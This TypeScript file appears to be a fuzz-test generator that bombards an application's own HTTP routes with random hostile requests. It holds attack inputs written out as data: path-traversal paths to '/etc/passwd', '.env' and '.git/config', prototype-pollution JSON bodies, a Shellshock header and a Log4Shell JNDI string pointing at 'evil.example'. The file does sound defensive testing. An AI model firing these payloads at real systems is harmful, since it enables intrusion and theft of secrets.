import type { Route } from '../../support/routes.js';
import type { Dice } from './dice.js';
import { ACTORS, type HttpInput } from './input.js';
import { disguised, individualNumber } from './numbers.js';
import { fieldName, hostileText, nearText } from './texts.js';

/** Of a request that is being put together. */
interface Draft {
  readonly numbers: string[];
  mustRefuse: boolean;
  readonly parts: string[];
}

const OTHER_METHODS = ['HEAD', 'OPTIONS', 'PUT', 'PATCH', 'DELETE', 'POST', 'GET', 'PROPFIND', 'TRACE'];
const ELSEWHERE = [
  '/none',
  '/assets/app.css',
  '/assets/',
  '/assets/../../package.json',
  '/assets/..%2f..%2fpackage.json',
  '/assets/%2e%2e/%2e%2e/etc/passwd',
  '/api/docs',
  '/api/docs/',
  '/api/openapi.json',
  '/api/v1',
  '/api/v2/units',
  '/%',
  '/%zz',
  '/%c0%ae%c0%ae/',
  '/units/%ff',
  '//units',
  '/units/../users',
  '/.env',
  '/.git/config',
  '/favicon.ico',
];

/** Anything at all over one of the routes, or beside them. */
export function hostileRequest(dice: Dice, routes: readonly Route[]): HttpInput {
  const draft: Draft = { numbers: [], mustRefuse: false, parts: [] };
  const route = dice.chance(0.95) ? pickRoute(dice, routes) : null;
  const wanted = dice.chance(0.92) ? (route?.method ?? 'GET') : dice.pick(OTHER_METHODS);
  const path = route === null ? dice.pick(ELSEWHERE) : pathOf(dice, route.path, draft);
  const url = path + queryOf(dice, route !== null, draft);
  // To an address that is too long the server answers before it knows that a body is unwelcome.
  const method = wanted === 'HEAD' && url.length > 8_000 ? 'GET' : wanted;
  const mayHaveBody = !['GET', 'HEAD', 'TRACE'].includes(method) || dice.chance(0.03);
  const { body, headers } = mayHaveBody ? bodyOf(dice, method, draft) : { body: undefined, headers: {} };
  return {
    door: 'http',
    about: `${method} ${route?.path ?? 'elsewhere'} ${[...new Set(draft.parts)].join(', ')}`.trim(),
    method,
    url,
    actor: pickActor(dice, route),
    csrf: dice.weighted({ own: 8, none: 1, wrong: 1 }),
    headers: { ...headers, ...headersOf(dice, draft) },
    body,
    numbers: draft.numbers,
    mustRefuse: draft.mustRefuse && route !== null && method === route.method,
  };
}

/** A password costs a tenth of a second of two cores, and a report in PDF as much. */
const COSTLY = /sign-in$|\/session$|password$|reports\/:file$|^POST \/users$|reset-password/;

function pickRoute(dice: Dice, routes: readonly Route[]): Route {
  const route = dice.pick(routes);
  return COSTLY.test(route.name) && dice.chance(0.7) ? dice.pick(routes) : route;
}

function pickActor(dice: Dice, route: Route | null) {
  if (dice.chance(0.4)) return dice.pick(ACTORS);
  // Behind the first door there is more to break.
  const roles = route?.rule?.who === 'roles' ? route.rule.roles : [];
  return roles.includes('hr') ? 'hr' : roles.includes('admin') ? 'admin' : 'hr';
}

/** A value for a name: what the product would take, what it must refuse, or an individual number. */
function valueFor(dice: Dice, name: string, draft: Draft, isRead: boolean): string {
  switch (dice.weighted({ near: 5, hostile: 3.2, number: 0.8 })) {
    case 'near':
      return nearText(dice, name);
    case 'number':
      return numberIn(dice, draft, isRead);
    default:
      draft.parts.push('hostile text');
      // More than a header takes would be all that is tried of the longest.
      return hostileText(dice).slice(0, isRead && dice.chance(0.95) ? 700 : undefined);
  }
}

function numberIn(dice: Dice, draft: Draft, isRead: boolean): string {
  const number = individualNumber(dice);
  draft.numbers.push(number);
  draft.mustRefuse ||= isRead;
  draft.parts.push('individual number');
  return disguised(dice, number);
}

function pathOf(dice: Dice, path: string, draft: Draft): string {
  return path.replace(/:(\w+)/g, (_, name: string) => {
    const value = name === 'id' && dice.chance(0.2) ? '{import}' : valueFor(dice, name, draft, true);
    if (value === '{import}' || value === 'latest') return '{import}';
    // An empty segment or one of dots is another path.
    const encoded = percent(value);
    return encoded === '' || /^\.+$/.test(encoded) ? '1' : encoded;
  });
}

function queryOf(dice: Dice, isRead: boolean, draft: Draft): string {
  if (dice.chance(0.6)) return '';
  const pairs = dice.times(1, dice.chance(0.02) ? 200 : 4, () => {
    const name = fieldName(dice);
    return `${percent(name)}=${percent(valueFor(dice, name, draft, isRead))}`;
  });
  const wild = dice.chance(0.05)
    ? `&${dice.pick(['%', '%zz', '=', '&&&', '%00=%00', '?', '#x', '%ff=%fe'])}`
    : '';
  return `?${pairs.join('&')}${wild}`.replaceAll('#', '%23');
}

function isPassword(name: string): boolean {
  return ['password', 'currentPassword', 'newPassword', 'newPasswordAgain'].includes(name);
}

/** UTF-8, lone surrogates as the replacement character. */
function percent(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[\w.~-]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).padStart(2, '0')}`,
    )
    .join('');
}

const HEADERS = [
  'user-agent',
  'referer',
  'origin',
  'x-request-id',
  'x-forwarded-host',
  'x-forwarded-proto',
  'forwarded',
  'accept',
  'accept-language',
  'accept-encoding',
  'if-none-match',
  'if-modified-since',
  'range',
  'sec-fetch-site',
  'authorization',
  'cookie',
  'x-csrf-token',
  'x-http-method-override',
  'content-encoding',
  'expect-ct',
  'host',
];
const HEADER_VALUES = [
  'cross-site',
  'Bearer mnc_' + 'A'.repeat(43),
  'Bearer ',
  'Basic YWRtaW46YWRtaW4=',
  'session=',
  'session=' + 'A'.repeat(43),
  'session=a; session=b; __proto__=c',
  'a=%',
  'bytes=0-999999999,-1',
  'DELETE',
  'gzip',
  '*/*;q=9',
  'evil.example',
  'https',
  'x'.repeat(4000),
  '() { :; }; /bin/id',
  '${jndi:ldap://evil.example/a}',
];

function headersOf(dice: Dice, draft: Draft): Record<string, string> {
  if (dice.chance(0.75)) return {};
  return Object.fromEntries(
    dice.times(1, dice.chance(0.03) ? 60 : 3, () => {
      const name = dice.pick(HEADERS);
      const value = dice.chance(0.5)
        ? dice.pick(HEADER_VALUES)
        : dice.chance(0.3)
          ? numberIn(dice, draft, false)
          : hostileText(dice).slice(0, 500);
      draft.parts.push(`header ${name}`);
      return [name, headerValue(value)];
    }),
  );
}

/** What a client can send at all: bytes, without those that end the line. */
function headerValue(text: string): string {
  return Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '');
}

type Body = { readonly body?: Buffer; readonly headers: Record<string, string> };
const JSON_TYPE = { 'content-type': 'application/json' };
const FORM_TYPE = { 'content-type': 'application/x-www-form-urlencoded' };

function bodyOf(dice: Dice, method: string, draft: Draft): Body {
  const kind = dice.weighted({
    json: 5,
    form: 5,
    anyJson: 1,
    deep: 0.3,
    prototype: 0.5,
    broken: 0.8,
    big: 0.05,
    lie: 0.8,
    multipart: 0.5,
    none: 1,
  });
  draft.parts.push(kind);
  const isRead = ['POST', 'PUT', 'PATCH', 'DELETE'].includes(method);
  switch (kind) {
    case 'json':
      return { body: Buffer.from(JSON.stringify(fieldsOf(dice, draft, isRead))), headers: JSON_TYPE };
    case 'form':
      return { body: formOf(dice, draft, isRead), headers: FORM_TYPE };
    case 'anyJson':
      return { body: Buffer.from(JSON.stringify(dice.anyJson())), headers: JSON_TYPE };
    case 'deep':
      return { body: deep(dice), headers: JSON_TYPE };
    case 'prototype':
      return { body: Buffer.from(dice.pick(PROTOTYPES)), headers: JSON_TYPE };
    case 'broken':
      return { body: broken(dice, draft), headers: dice.pick([JSON_TYPE, FORM_TYPE]) };
    case 'big':
      return {
        body: Buffer.from(JSON.stringify({ name: 'a'.repeat(dice.pick([999_000, 1_000_100, 3_000_000])) })),
        headers: JSON_TYPE,
      };
    case 'lie':
      return { body: Buffer.from(JSON.stringify(fieldsOf(dice, draft, false))), headers: lie(dice) };
    case 'multipart':
      return {
        body: Buffer.from(
          `--b\r\nContent-Disposition: form-data; name="${dice.pick(['_csrf', 'name', 'file'])}"\r\n\r\nx\r\n--b--\r\n`,
        ),
        headers: { 'content-type': 'multipart/form-data; boundary=b' },
      };
    default:
      return { headers: dice.pick([{}, JSON_TYPE, FORM_TYPE]) };
  }
}

function fieldsOf(dice: Dice, draft: Draft, isRead: boolean): Record<string, unknown> {
  const fields = new Map<string, unknown>();
  for (let count = dice.between(1, 8); count > 0; count--) {
    const name = dice.chance(0.04) ? numberIn(dice, draft, isRead) : fieldName(dice);
    // A second value would only take the place of the first.
    if (!fields.has(name)) fields.set(name, jsonValue(dice, name, draft, isRead && !isPassword(name)));
  }
  return Object.fromEntries(fields);
}

const ODD_VALUES = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [[]],
  [null],
  '',
];

function jsonValue(dice: Dice, name: string, draft: Draft, isRead: boolean): unknown {
  switch (dice.weighted({ text: 12, odd: 2, list: 1, object: 1, number: 0.5 })) {
    case 'odd':
      return dice.pick(ODD_VALUES);
    case 'list':
      return dice.times(0, 3, () => valueFor(dice, name, draft, isRead));
    case 'object':
      return { [fieldName(dice)]: valueFor(dice, name, draft, false) };
    case 'number': {
      // As a number, a leading zero would be lost, and with it the number.
      const number = individualNumber(dice);
      if (number.startsWith('0')) return 0;
      draft.numbers.push(number);
      draft.mustRefuse ||= isRead;
      return Number(number);
    }
    default:
      return valueFor(dice, name, draft, isRead);
  }
}

function formOf(dice: Dice, draft: Draft, isRead: boolean): Buffer {
  const pairs = dice.times(1, dice.chance(0.01) ? 2000 : 8, () => {
    const name = fieldName(dice);
    return `${percent(name)}=${percent(valueFor(dice, name, draft, isRead && !isPassword(name)))}`;
  });
  return Buffer.from(pairs.join('&'));
}

function deep(dice: Dice): Buffer {
  const depth = dice.pick([10, 21, 1000, 100_000]);
  return dice.chance(0.5)
    ? Buffer.from('['.repeat(depth) + ']'.repeat(depth))
    : Buffer.from('{"a":'.repeat(depth) + '1' + '}'.repeat(depth));
}

const PROTOTYPES = [
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"name":{"__proto__":{"length":1}}}',
  '{"toString":"x","valueOf":1,"hasOwnProperty":null}',
  '{"name":"a","name":"b"}',
  '{"length":1e9,"0":"a"}',
  '[{"__proto__":[]}]',
  '"__proto__"',
];

function broken(dice: Dice, draft: Draft): Buffer {
  const whole = Buffer.from(JSON.stringify(fieldsOf(dice, draft, false)));
  switch (dice.below(5)) {
    case 0:
      return whole.subarray(0, dice.below(whole.length));
    case 1:
      return Buffer.concat([whole, dice.bytes(20)]);
    case 2:
      return Buffer.from(
        dice.pick(['{"name":"\\ud800"}', '{"name":"\\u0000"}', '{"a":1e999}', '{"a":-}', '\ufeff{}']),
      );
    case 3: {
      const flipped = Buffer.from(whole);
      for (let count = dice.between(1, 6); count > 0; count--)
        flipped[dice.below(flipped.length)] = dice.below(256);
      return flipped;
    }
    default:
      return dice.bytes(300);
  }
}

const LIES = [
  'text/plain',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=x',
  'application/json;',
  'APPLICATION/JSON',
  'application/problem+json',
  'application/x-www-form-urlencoded; charset=shift_jis',
  'multipart/form-data',
  `multipart/form-data; boundary=${'b'.repeat(500)}`,
  'multipart/mixed; boundary=b',
  'application/octet-stream',
  'image/png',
  ';',
  '/',
  'a/b/c',
  '*/*',
];

function lie(dice: Dice): Record<string, string> {
  const encoding: Record<string, string> = dice.chance(0.2) ? { 'content-encoding': 'gzip' } : {};
  return { 'content-type': dice.pick(LIES), ...encoding };
}
